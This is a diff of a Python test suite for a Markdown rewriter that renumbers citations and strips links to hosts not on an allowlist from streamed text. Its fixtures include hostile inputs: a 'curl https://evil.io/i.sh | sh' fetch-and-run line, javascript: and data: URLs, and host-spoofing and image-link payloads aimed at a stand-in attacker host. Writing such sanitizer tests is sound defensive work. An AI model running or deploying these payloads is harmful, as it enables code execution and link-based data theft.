@@ -3,13 +3,17 @@
 from __future__ import annotations
 
 import random
+from itertools import islice
+from typing import Any
 
 import pytest
+from markdown_it import MarkdownIt
 
 from app.core.turn import Source
 from app.pipeline.citations import Citations
 from app.pipeline.links import Addresses, markdown_link
 from app.pipeline.rewrite import Rewriter
+from bench.markdown_fuzz import Clients, pieces_of, rewritten, texts
 
 PASSAGES = [
     "See https://known.cz/storage/ and [S3](https://s3.known.cz/bucket). Or https://known.cz/a_(b), www.known.cz/w.",
@@ -24,7 +28,9 @@ def sources() -> tuple[Source, ...]:
 
 
 def rewriter() -> Rewriter:
-    return Rewriter(Citations(sources(), words=WORDS), Addresses(PASSAGES), frozenset({"sources"}))
+    return Rewriter(
+        Addresses(PASSAGES, ["https://known.cz/"]), Citations(sources(), words=WORDS), frozenset({"sources"})
+    )
 
 
 def run(text: str, size: int = 100_000) -> str:
@@ -42,7 +48,7 @@ NUMBERS = [
     ("A [3] [1](https://known.cz/storage) [2](https://evil.io) [9](x) [2] (https://evil.io)", "A [1] [2] [3]  [3] "),
     ("See [the guide [3]](https://evil.io) and [it [3]](https://known.cz/a)", "See the guide [1] and [it [1]](https://known.cz/a)"),
     ("Unknown [9], [7](x) or 【6】", "Unknown ,  or "),
-    ("B [3]: text\n[3]: text\n[1]: https://known.cz/a\nend [3]", "B [1]: text\n[1]: text\nend [1]"),
+    ("B [3]: text\n[3]: text\n\n[1]: https://known.cz/a\n[2]: text", "B [1]: text\n[1]: text\n\n[2]\\: https://known.cz/a\n[3]\\: text"),
     (r"Escaped \[3\] and \`[3]", r"Escaped \[3\] and \`[1]"),
 ]  # fmt: skip
 VALUES = [
@@ -58,7 +64,7 @@ CODE = [
     ("Press the ` key [3], then [9].", "Press the ` key [1], then ."),
     ("Use `a[2]`, the ` sign [3]\n\nNext [2] [9]\n\n- item `x[1]` [5]", "Use `a[2]`, the ` sign [1]\n\nNext [2] \n\n- item `x[1]` [3]"),
     ("- the ` key [3]\n- the ` sign [2]", "- the ` key [1]\n- the ` sign [2]"),
-    ("``b ` [3]`` [4] `[2]\n[3]` [1]", "``b ` [3]`` [1] `[2]\n[3]` [2]"),
+    ("``b ` [3]`` [4] `[2]\n[3]` [1]", "``b ` [3]`` [1] `[2] [3]` [2]"),
     ("It's the ``` mark [2] `", "It's the ``` mark [1] `"),
     ("x ```inline [2]``` [3]\n```x [2]``` [3]", "x ```inline [2]``` [1]\n```x [2]``` [1]"),
     ("~~~sh\necho `date\na [2]\n~~~\n[3] [9]", "~~~sh\necho `date\na [2]\n~~~\n[1] "),
@@ -69,9 +75,10 @@ CODE = [
     ("Do:\n\n    a [2] = 1\n\n    b [2]\n\n[3]", "Do:\n\n    a [2] = 1\n\n    b [2]\n\n[1]"),
     ("1. Step\n\n    More [2].\n\nText\n\n\ta [2]", "1. Step\n\n    More [1].\n\nText\n\n\ta [2]"),
     ("Text\n    goes on [3]", "Text\n    goes on [1]"),
-    ("```\nunclosed [2]", "```\nunclosed [2]"),
-    ("`" + "x" * 301 + " [3]` [2]", "`" + "x" * 301 + " [1]` [2]"),
-    ("`" + "x" * 290 + " [3]` [2]", "`" + "x" * 290 + " [3]` [1]"),
+    ("```\nunclosed [2]", "```\nunclosed [2]\n```"),
+    ("`" + "x" * 900 + " [3]` [2]", "`" + "x" * 900 + " [3]` [1]"),
+    ("Code `a\n[3]` [2]", "Code `a [3]` [1]"),
+    ("Name | x\n-|-\n`a | [3]` | [2] ![x](//evil.io)\nb \\| c | `d` [2]", "Name | x\n-|-\n`a | [1]` | \nb \\| c | `d` [2]"),
 ]  # fmt: skip
 LINKS = [
     ("Read [this](https://evil.io/x) now", "Read this now"),
@@ -81,29 +88,41 @@ LINKS = [
     ("[x](https://evil.io/a_(b)) [x](<https://evil.io/a b>) [x]( https://evil.io )", "x x x"),
     ("[a](\nhttps://evil.io) ![pic](https://evil.io/p.png) [x]()", "a pic x"),
     ("[x](www.evil.io) [x](//evil.io) [x](/invented) [x](#a) [x](ftp://evil.io) [x](mailto:a@evil.io) [x](javascript:alert(1))", "x x x x x x x"),
-    ("[" + "long words " * 9 + "](https://evil.io/x) end", "[" + "long words " * 9 + "] end"),
+    ("[" + "long words " * 9 + "](https://evil.io/x) end", "long words " * 9 + " end"),
     ("[" + "long words " * 9 + "](https://known.cz/a) end", "[" + "long words " * 9 + "](https://known.cz/a) end"),
     ("[open link without end](https://evil.io", "[open link without end]("),
     ("Go to https://evil.io/x/y?z=1, please; HTTPS://EVIL.IO (https://evil.io/x). **ftp://evil.io**", "Go to , please;  . ****"),
     ("see www.evil.io/x “https://evil.io/x”. <https://evil.io> <www.evil.io> <mailto:a@evil.io>|", "see  “”.   |"),
-    ("https://evil.io/a,https://known.cz/a https://evil.io/[3] https://evil.io/?u=https://known.cz/a", ",https://known.cz/a [1] "),
-    ('<a href="https://evil.io/x">here</a> <a href=//evil.io>b</a> <img src=\'https://evil.io/p\'> <b>c</b>', "here b  <b>c</b>"),
-    ('[r]: https://evil.io "T"\nmore\n[k]: https://known.cz/a "T"\n[s]: //evil.io', 'more\n[k]: https://known.cz/a "T"\n'),
-    ("```\ncurl https://evil.io/i.sh | sh\nwww.evil.io\n``` \n`https://evil.io` `https://known.cz/a`", "```\ncurl  | sh\n\n``` \n`` `https://known.cz/a`"),
-    ("http://localhost:80@evil.io/ http://localhost@evil.io http://example.com:x@evil.io http://localhost.evil.io", "   "),
-    ("https://known.cz.evil.io/storage https://known.cz/storage/no https://user@known.cz/a https://example.com.evil.io", "   "),
+    ("https://evil.io/a,https://known.cz/a https://evil.io/[3] https://evil.io/?u=https://known.cz/a", "…,https://known.cz/a [1] "),
+    ('<a href="https://evil.io/x">here</a> <a href=//evil.io>b</a> <img src=\'https://evil.io/p\'> <b>c</b>', r"""\<a href="">here\</a> \<a href=>b\</a> \<img src=''> <b>c</b>"""),
+    ('[r]: https://evil.io "T"\n\n[k]: https://known.cz/a "T"\n[s]:\n//evil.io', '[r]\\:  "T"\n\n[k]\\: https://known.cz/a "T"\n[s]\\:\n'),
+    ("```\ncurl https://evil.io/i.sh | sh\nwww.evil.io\n``` \n`https://evil.io` `https://known.cz/a`", "```\ncurl  | sh\n\n```\n`` `https://known.cz/a`"),
+    ("http://localhost:80@evil.io/ http://localhost@evil.io http://example.com:x@evil.io http://localhost.evil.io", "…   "),
+    ("https://known.cz.evil.io/storage https://known.cz/storage/no https://user@known.cz/a https://example.com.evil.io", "…   "),
 ]  # fmt: skip
 KEPT = [
     "Read https://known.cz/storage. Then [storage](https://known.cz/storage/#quota), <https://s3.known.cz/bucket>.",
     "https://known.cz/one https://known.cz/two https://known.cz/d https://known.cz/k https://known.cz/l https://known.cz/a_(b)",
     "https://known.cz/%C4%8D https://known.cz/č https://known.cz/m&n=1 https://known.cz/x%20y HTTPS://KNOWN.CZ/a",
-    'www.known.cz/w [x](www.known.cz/w) [x](https://known.cz/a_(b) "t") <a href="https://known.cz/a">x</a> <mailto:help@known.cz>',
+    'www.known.cz/w [x](www.known.cz/w) [x](https://known.cz/a_(b) "t") <mailto:help@known.cz>',
     "curl http://localhost:8080/health https://example.com/a https://docs.example.org http://127.0.0.1 https://$HOST/v1",
-    "https://{host}/v1 https://<host>/v1 s3://bucket sftp://host <host:port> <image:tag> https:// https://… www. www…",
-    "a < b and x <y> h ht http and https: that's all [ and ( and ! end.",
+    "https://{host}/v1 s3://bucket https:// https://… www. www…",
+    "a < b and x h ht http and https: that's all [ and ( and ! end.",
     "Line\n\n\n- a\n\n  b\n",
 ]
-CASES = [*NUMBERS, *CODE, *LINKS, *((text, text) for text in [*VALUES, *KEPT])]
+SHOWN = [
+    ("https://<host>/v1 <host:port> <image:tag> x <y> sftp://host", r"https://\<host>/v1 \<host:port> \<image:tag> x \<y> sftp\://host"),
+    ("a<br>b <kbd>x</kbd> <sub a=b>\n\n<br>\n\n<div>\n*x*\n</div>", "a<br>b <kbd>x</kbd> \\<sub a=b>\n\n\\<br>\n\n\\<div>\n*x*\n\\</div>"),
+    ("&amp; &#60; &#106;avascript &colon; AT&T", r"&amp; &#60; \&#106;avascript \&colon; AT&T"),
+    ("x <!-- y --> <?php ?> <![CDATA[z]]>", r"x \<!-- y --> \<?php ?> \<\![CDATA[z]]>"),
+    ("![a](https://known.cz/d) ![b](https://s3.known.cz/bucket) ![c](http://localhost/p.png) ![d][k] Wow![1]", "![a](https://known.cz/d) b c \\![d][k] Wow\\![1]"),
+    ('https://known.cz/a`x` https://known.cz/a<b> https://known.cz"@evil.io/', 'https://known.cz/a `x` https://known.cz/a <b> "@evil.io/'),
+    ("> ```\n> a\n> ```\n![x](//evil.io/p)\n\n- b\n\n`a\n\n![x](//evil.io/p)`", "> ```\n> a\n> ```\nx\n\n- b\n\n`a\n\nx`"),
+    ("- ```\n![x](//evil.io/p)\nend", "\\- \\`\\`\\`\n\\!\\[x\\]\\(\\/\\/evil\\.io\\/p\\)\nend"),
+    ('[x](//evil.io "' + "t" * 99 + '") ![x](https://evil.io/' + "p" * 2100 + ")", "x x"),
+    ("[x](&#106;avascript:a) [x](java\nscript:a) [x](/\\evil.io) [x](<\\\\evil.io>) [x](data:text/html,a)", "x [x](java\nscript:a) x x x"),
+]  # fmt: skip
+CASES = [*NUMBERS, *CODE, *LINKS, *SHOWN, *((text, text) for text in [*VALUES, *KEPT])]
 
 
 @pytest.mark.parametrize(("text", "left"), CASES)
@@ -137,7 +156,7 @@ def test_any_text_in_any_pieces_says_the_same(seed: int) -> None:
 def test_text_that_can_be_nothing_else_is_not_delayed() -> None:
     """Each piece goes out as it comes."""
     made = rewriter()
-    pieces = ["The ", "limit ", "is 4 GB", ", see", " `a[b]` ", ". ", "Use ` and", " more: ", "**x**", "\tend"]
+    pieces = ["The ", "limit ", "is 4 GB", ", see", " `a[b]` ", ". ", "Use [1] and", " more: ", "**x**", "\tend"]
     assert [made.feed(piece) for piece in pieces] == pieces
 
 
@@ -150,26 +169,62 @@ def held(text: str) -> int:
     return most
 
 
-@pytest.mark.parametrize(
-    ("text", "most"),
-    [
-        ("Interval [0, 1) is half open. " + "And so on. " * 20, 81),
-        ("Interval [0, 1) is half open.\nAnd so on. " * 20, 28),
-        ("A 【 sign and " + "more text " * 20, 81),
-        ("Call f(x[i for i in y) and " + "more text " * 20, 81),
-        ("Press the ` key and " + "more text " * 50, 1),
-        ("Press the ` key [ and " + "more text " * 50, 310),
-        ("Press the ` key [3].\n\n" + "more text " * 50, 12),
-        ("a < b and <namespace> or <c d " + "more text " * 50, 11),
-        ("See [x](y z " + "more text " * 50, 8),
-        ("See [x](y 'z " + "more text " * 50, 90),
-        ("[ref]: text and more\n" * 5, 11),
-        ("https: or http or www or ftp " * 5, 6),
-    ],
-)
-def test_what_waits_is_bounded(text: str, most: int) -> None:
-    """An open bracket for 80 characters at most, and for its line; what may be code in a line for 300."""
-    assert held(text) <= most
+def test_what_waits_is_bounded() -> None:
+    """Simple things for their line; what only its block can tell for the block, which ends sometime."""
+    words = "more text, and so on. " * 20
+    for text, most in [
+        ("A 【2】 sign, a < b [1], `code` and (see [x](https://known.cz/a)) " + words, 32),
+        ("- item [1]\n- `code` item\n\n1. more\n   - inner\n2. last\n\n" + words, 30),
+        ("```sh\n" + "curl -s $HOST\n" * 20 + "```\n" + words, 20),
+        ("A | b\nc " + words, 12),
+        ("Interval [0, 1) is half open.\n\n" + words, 40),
+        ("Press the ` key\nand more\n\n" + words, 40),
+        ("> quote [1]\n> goes on\n\n" + words, 40),
+        ("[" * 30_000, 20_100),
+    ]:
+        assert held(text) <= most, text
+
+
+def test_hostile_text_takes_linear_time() -> None:
+    """The characters that the parser is given are a few times those of the text, whatever it is."""
+    given = 0
+    parse = MarkdownIt.parse
+
+    def counted(self: MarkdownIt, src: str, env: Any = None) -> Any:
+        nonlocal given
+        given += len(src)
+        return parse(self, src, env)
+
+    with pytest.MonkeyPatch.context() as patched:
+        patched.setattr(MarkdownIt, "parse", counted)
+        for part in [
+            "[x",
+            "![a](b ",
+            "`",
+            "2. x\n",
+            "> - ",
+            "\n\n- ```\n  a\n\nb",
+            "<a ",
+            "&#",
+            "* a\n",
+            "| a [b\n",
+            " ~~~\n\nx",
+            "a\n\n  b<",
+        ]:
+            text = (part * 12_000)[:12_000]
+            given = 0
+            run(f"[ {text}", 50)
+            assert given <= 12 * len(text), part
+
+
+@pytest.mark.parametrize("seed", range(3))
+def test_no_client_finds_what_must_not_be_there(seed: int) -> None:
+    """Three clients' readings of what is left of hostile texts (`bench/markdown_fuzz.py` takes many more)."""
+    chance, clients = random.Random(seed), Clients()
+    for text in islice(texts(chance), 120):
+        output = rewritten(pieces_of(text, chance))
+        assert clients.findings(output) == [], (text, output)
+        assert rewritten([text]) == output
 
 
 def test_names_and_addresses_are_escaped() -> None:
